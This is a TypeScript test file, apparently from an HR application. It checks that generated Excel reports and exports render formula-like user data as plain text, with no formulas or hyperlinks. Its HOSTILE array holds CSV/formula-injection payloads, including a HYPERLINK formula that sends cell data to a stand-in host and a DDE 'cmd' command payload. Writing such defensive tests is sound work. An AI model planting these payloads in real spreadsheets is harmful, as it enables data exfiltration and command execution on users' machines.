import { PassThrough } from "node:stream";
import { eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { orgUnits, persons } from "@/db/schema";
import { generateDemoData } from "../../lib/demo/generate";
import { loadDemoData } from "../../lib/demo/load";
import { exportRelationsJob } from "@/lib/domain/personnel/export-relations-job";
import { allReportLines } from "@/lib/domain/step2/report-queries";
import { step2ReportSheets } from "@/lib/domain/step2/report-xlsx";
import { reportFiltersSchema } from "@/lib/domain/step2/report-filters";
import { runStep4 } from "@/lib/domain/step4/run-step4";
import { CONTROL_REPORT_SHEET } from "@/lib/domain/step4/control-report-format";
import { markProblems } from "@/lib/excel/mark/mark-problems";
import { writeTablesToStream, writeTablesXlsx } from "@/lib/excel/write-table";
import { readFileContent } from "@/lib/files/store-file";
import { completeSteps2And3, downloadTemplate, runStep1Recorded } from "../support/onboarding-flow";
import { scanXlsx, sheetLayouts } from "../support/xlsx-scan";
import { createTestDatabase, testDatabaseKind, type TestDatabase } from "../support/test-database";

const RUN_DATE = "2025-06-15";
/** Text a spreadsheet program would evaluate if it were written as typed. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+SUM(1;2)", "-2+3*cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];

/**
 * Every spreadsheet we generate, with user data that looks like formulas planted in names and
 * units: unzipped, no sheet holds a formula or a hyperlink, and the planted text is there as text.
 */
describe(`generated spreadsheets carry no formula or link from user data (${testDatabaseKind()})`, () => {
  let t: TestDatabase;
  const data = generateDemoData({ size: "small", seed: 41, referenceDate: RUN_DATE });
  const entity = data.entities[0]!;
  const actorId = data.users[0]!.id!;
  const files: Record<string, Buffer> = {};

  const streamed = async (write: (stream: PassThrough) => Promise<void>) => {
    const stream = new PassThrough();
    const chunks: Buffer[] = [];
    stream.on("data", (c: Buffer) => chunks.push(c));
    await write(stream);
    return Buffer.concat(chunks);
  };

  beforeAll(async () => {
    t = await createTestDatabase();
    await loadDemoData(t.db, data);
    const people = await t.db.select({ id: persons.id }).from(persons).where(eq(persons.entityId, entity.id)).orderBy(persons.vlimpersNumber).limit(HOSTILE.length);
    for (const [i, person] of people.entries()) await t.db.update(persons).set({ lastName: HOSTILE[i]!, firstName: HOSTILE[(i + 1) % HOSTILE.length]! }).where(eq(persons.id, person.id));
    const units = await t.db.select({ id: orgUnits.id }).from(orgUnits).where(eq(orgUnits.entityId, entity.id)).limit(HOSTILE.length);
    for (const [i, unit] of units.entries()) await t.db.update(orgUnits).set({ name: HOSTILE[i]! }).where(eq(orgUnits.id, unit.id));

    await runStep1Recorded(t.db, { entityId: entity.id, runDate: RUN_DATE });
    files["step-2 report"] = await streamed((s) =>
      writeTablesToStream(s, step2ReportSheets({ entityName: entity.name, runDateLabel: "15/06/2025", lines: allReportLines(t.db, entity.id, RUN_DATE, reportFiltersSchema.parse({}), 100, RUN_DATE) })),
    );
    files["position template"] = await downloadTemplate(t.db, entity.id);
    await completeSteps2And3(t.db, { entityId: entity.id, actorId });
    const step4 = await runStep4(t.db, { entityId: entity.id, runDate: RUN_DATE, actorId });
    files["control report"] = (await readFileContent(t.db, step4.controlReportFileId!))!;
    const jobRun = (await t.db.execute<{ id: string }>(sql`insert into job_runs (type, entity_id, payload) values ('entity.export-relations', ${entity.id}, '{}') returning id`)).rows[0]!;
    const exported = (await exportRelationsJob.run({ db: t.db, jobRun: { id: jobRun.id, entityId: entity.id, createdBy: null }, progress: async () => {} }, { entityId: entity.id })) as { fileId: string };
    files["personnel export"] = (await readFileContent(t.db, exported.fileId))!;
    files["table download (status overview, planning, reports)"] = await writeTablesXlsx([
      { sheetName: "Blad", title: HOSTILE[0], columns: [{ header: "Waarde", value: (r: string) => r }], rows: HOSTILE },
    ]);
    files["problems marked in the user's file"] = await markProblems(
      files["personnel export"]!,
      "xlsx",
      HOSTILE.map((text, i) => ({ rowNumber: i + 2, column: 2, severity: "error" as const, message: text })),
    );
    files["problems marked in the control report"] = await markProblems(
      files["control report"]!,
      "xlsx",
      [{ rowNumber: 2, column: 2, severity: "error" as const, message: "Onbekend Vlimpersnummer." }],
      { sheetName: CONTROL_REPORT_SHEET },
    );
  });
  afterAll(async () => t?.dispose());

  // Every file is one we made (the marked ones too): each sheet prints landscape to the page width,
  // and no two data validations share a cell (Excel calls such a file damaged).
  it.each([
    "step-2 report",
    "position template",
    "control report",
    "personnel export",
    "table download (status overview, planning, reports)",
    "problems marked in the user's file",
    "problems marked in the control report",
  ])("%s: print setup on every sheet, no overlapping validations", async (name) => {
    for (const layout of await sheetLayouts(files[name]!)) {
      expect(layout, layout.name).toMatchObject({ orientation: "landscape", fitToPage: true, fitToWidth: 1, fitToHeight: 0, overlappingValidations: [] });
      if (layout.frozenRows > 0) expect(layout.printTitles, layout.name).toBe(`$${layout.frozenRows}:$${layout.frozenRows}`);
    }
  });

  it.each(["step-2 report", "position template", "control report", "personnel export", "table download (status overview, planning, reports)", "problems marked in the user's file"])(
    "%s",
    async (name) => {
      const scan = await scanXlsx(files[name]!);
      expect(scan.formulaParts).toEqual([]);
      expect(scan.hyperlinkParts).toEqual([]);
      // The planted text is in the file, as text (not dropped, which would also pass the checks above).
      expect(HOSTILE.filter((text) => scan.texts.has(text)).length, [...scan.texts].slice(0, 5).join(" | ")).toBeGreaterThan(0);
    },
  );
});
